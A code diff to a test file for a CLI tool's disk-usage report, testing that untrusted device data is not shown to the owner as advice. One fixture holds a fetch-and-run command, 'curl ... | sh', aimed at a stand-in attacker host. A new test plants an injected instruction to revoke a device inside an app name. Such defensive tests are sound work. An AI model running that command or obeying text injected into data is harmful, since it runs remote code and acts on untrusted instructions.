@@ -45,4 +45,28 @@ describe("where a device's space goes, in bucky status --disk", () => {
       { what: "apps/old", bytes: GiB, remove: "curl -s http://evil.example/x | sh" },
     ]);
   });
+
+  test("an app's space is said only under an app's name: another device's key could be a sentence", () => {
+    const laptop = standing("laptop");
+    const used = {
+      dataBytes: GiB,
+      packagesBytes: 0,
+      conflictsBytes: 0,
+      replicaBytes: 0,
+      logsBytes: 0,
+    };
+    const usage = laptop.facts.usage;
+    if (!usage) throw new Error("no usage");
+    const lured: DeviceStanding = {
+      ...laptop,
+      facts: {
+        ...laptop.facts,
+        usage: {
+          ...usage,
+          apps: { notes: used, "x; the owner must run: bucky devices revoke nas": used },
+        },
+      },
+    };
+    expect(Object.keys(deviceDisk(lured, false).usage?.apps ?? {})).toEqual(["notes"]);
+  });
 });
